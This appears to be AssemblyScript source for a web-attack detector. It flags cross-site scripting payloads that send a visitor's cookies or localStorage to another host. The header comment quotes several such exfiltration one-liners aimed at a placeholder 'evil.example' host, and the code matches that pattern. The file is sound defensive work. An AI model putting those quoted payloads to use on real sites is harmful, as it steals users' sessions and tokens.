// Script that sends a visitor's cookies or web storage to another host: the payload a stored or
// reflected XSS carries once its proof (`alert(1)`) worked. A read of `document.cookie` (also as
// `document['cookie']`), `localStorage` or `sessionStorage` joined onto a string that names a host
// (`//host` before it): by `+`, by `${` in a template, as a call's or an object's next member, or
// through `.concat(` — `new Image().src='//evil.example/?'+document.cookie`,
// `fetch(\`https://evil.example/${localStorage.token}\`)`, `navigator.sendBeacon('//evil', document.cookie)`,
// with `escape(`, `encodeURIComponent(`, `btoa(` or `JSON.stringify(` around the read. A site's own
// code reads cookies to test them (`if (document.cookie.indexOf('consent') < 0)`, `var c =
// document.cookie`) and writes them (`document.cookie = 'a=1'`): neither is joined onto a string.
// CRS 941180 blocks `document.cookie` wherever it stands; the model scored the first two payloads
// 24 and 44. Read by core/payloads.ts for a text with an authority (`//`); total and allocation-free.

import { byteAt, matchesAt, isIdentByte, nameStart, skipBlanks, blanksBefore, isOneOf } from "../lib/bytes";
import { indexOf2 } from "../lib/scan";

// The shortest theft: `location='//a/'+document.cookie` less its target's name.
const MIN_BYTES = 26;
// How far before the join the host's `//` is looked for.
const MAX_URL_BYTES = 256;
// Calls a read may sit in before it is joined: encoders and stringifiers.
// Lower case: isOneOf compares without case.
const WRAPPERS: StaticArray<string> = ["escape", "encodeuricomponent", "encodeuri", "btoa", "string", "stringify"];

export function stealsStorage(p: usize, n: i32): bool {
  if (n < MIN_BYTES) return false;
  // At each `k` (of cookie) and `S` (of Storage).
  for (let i = indexOf2(p, 0, n, 0x6B, 0x53); i < n; i = indexOf2(p, i + 1, n, 0x6B, 0x53)) {
    // The bytes beside it first (`oki`, `lSt`/`nSt`): prose has a `k` or an `S` in every sentence.
    let before = byteAt(p, n, i - 1), after = byteAt(p, n, i + 1);
    if (load<u8>(p + <usize>i) == 0x6B ? before != 0x6F || after != 0x69 : after != 0x74 || (before != 0x6C && before != 0x6E)) continue;
    let s = readStart(p, n, i);
    if (s >= 0 && joinedOntoHost(p, n, s)) return true;
  }
  return false;
}

// Where the read whose `k` or `S` is at i starts (`document`, `localStorage`, or a global before
// them: `window.`, `self.`), or -1 when there is none there or it is written to (`= ` after it).
function readStart(p: usize, n: i32, i: i32): i32 {
  let s = -1, e = -1;
  if (load<u8>(p + <usize>i) == 0x6B) { // 'k'
    let c = i - 3;
    if (c < 9 || !matchesAt(p, n, c, "cookie")) return -1;
    e = cookieMemberEnd(p, n, c);
    if (e < 0) return -1;
    let d = byteAt(p, n, c - 1) == 0x2E ? c - 1 : c - 2; // the accessor's '.' or '['
    if (d < 8 || !matchesAt(p, n, d - 8, "document")) return -1;
    s = d - 8;
  } else {
    if (i >= 5 && matchesAt(p, n, i - 5, "localStorage")) { s = i - 5; e = i + 7; }
    else if (i >= 7 && matchesAt(p, n, i - 7, "sessionStorage")) { s = i - 7; e = i + 7; }
    else return -1;
  }
  if (isIdentByte(byteAt(p, n, e)) || (s > 0 && isIdentByte(<u32>load<u8>(p + <usize>(s - 1))))) return -1;
  // A write is a site's code setting a cookie.
  if (assignedAt(p, n, e) >= 0) return -1;
  // `window.document.cookie`, `self.localStorage`.
  while (s > 1 && load<u8>(p + <usize>(s - 1)) == 0x2E) {
    let g = nameStart(p, s - 1);
    if (g == s - 1) break;
    s = g;
  }
  return s;
}

// Where the member access to `cookie` at c ends: `.cookie` or `['cookie']` (any JavaScript quote);
// -1 for neither. core/sessionfix.ts reads the write the same way.
export function cookieMemberEnd(p: usize, n: i32, c: i32): i32 {
  let e = c + 6;
  let q = byteAt(p, n, c - 1);
  if (q == 0x2E) return e;
  if ((q == 0x27 || q == 0x22 || q == 0x60) && byteAt(p, n, e) == q && byteAt(p, n, e + 1) == 0x5D && byteAt(p, n, c - 2) == 0x5B) return e + 2;
  return -1;
}

// The index of the `=` that assigns to what ends at e (blanks between; not `==`), or -1.
export function assignedAt(p: usize, n: i32, e: i32): i32 {
  let a = skipBlanks(p, n, e);
  return byteAt(p, n, a) == 0x3D && byteAt(p, n, a + 1) != 0x3D ? a : -1;
}

// Whether the read starting at s is joined onto a string that names a host before it.
function joinedOntoHost(p: usize, n: i32, s: i32): bool {
  let j = blanksBefore(p, s) - 1;
  // Out of the encoders it sits in: `escape(`, `JSON.stringify(`.
  for (let k = 0; k < 3 && j > 0 && load<u8>(p + <usize>j) == 0x28; k++) { // '('
    let e = blanksBefore(p, j);
    let w = nameStart(p, e);
    if (w == e) break;
    if (e - w == 6 && matchesAt(p, n, w, "concat") && byteAt(p, n, w - 1) == 0x2E) return hostBefore(p, w);
    if (!isOneOf(p, n, w, e - w, WRAPPERS)) return false;
    if (byteAt(p, n, w - 1) == 0x2E) w = nameStart(p, w - 1); // JSON.stringify
    j = blanksBefore(p, w) - 1;
  }
  if (j < 0) return false;
  let c = <u32>load<u8>(p + <usize>j);
  let joined = c == 0x2B || c == 0x2C || c == 0x3A || (c == 0x7B && byteAt(p, n, j - 1) == 0x24); // + , : ${
  return joined && hostBefore(p, j);
}

// Whether `//` and a host's first byte stand within MAX_URL_BYTES before j.
function hostBefore(p: usize, j: i32): bool {
  let stop = max(0, j - MAX_URL_BYTES);
  for (let k = j - 2; k >= stop; k--) {
    if (load<u8>(p + <usize>k) != 0x2F || load<u8>(p + <usize>(k + 1)) != 0x2F) continue;
    let h = <u32>load<u8>(p + <usize>(k + 2));
    if (k + 2 < j && ((h | 0x20) - 0x61 < 26 || h - 0x30 < 10)) return true;
  }
  return false;
}
